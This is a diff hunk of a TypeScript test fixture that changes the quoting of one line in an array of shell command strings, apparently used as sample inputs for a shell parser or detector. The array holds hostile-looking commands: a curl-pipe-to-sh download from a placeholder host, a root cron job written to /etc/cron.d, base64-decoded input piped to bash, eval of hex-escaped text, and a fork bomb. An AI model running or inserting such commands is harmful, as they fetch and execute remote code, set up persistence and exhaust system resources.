@@ -25,7 +25,7 @@ const bytesOf = (...texts: readonly string[]): Buffer[] => texts.map((text) => B
 export const shellTexts: readonly string[] = [
   'set -e; cd /tmp && curl -fsSL http://example.com/x.sh | sh -s -- -q > /dev/null 2>&1 &',
   'cat <<EOF > /etc/cron.d/x\n* * * * * root /tmp/run\nEOF\necho "$(id -u)" `uname`',
-  'for i in 1 2; do case $i in 1) echo \'a b\';; *) echo "${X:-y}";; esac; done',
+  `for i in 1 2; do case $i in 1) echo 'a b';; *) echo "\${X:-y}";; esac; done`,
   'X=aGk=; echo $X | base64 -d | bash; eval "$(printf \'\\x65cho hi\')"',
   'if [ -x /opt/a ]; then exec sudo -u root nohup /opt/a --flag="v" "$@"; fi # done',
   'bash -c \'sh -c "python3 -c \\"print(1)\\""\' <<< input; f() { f | f & }',
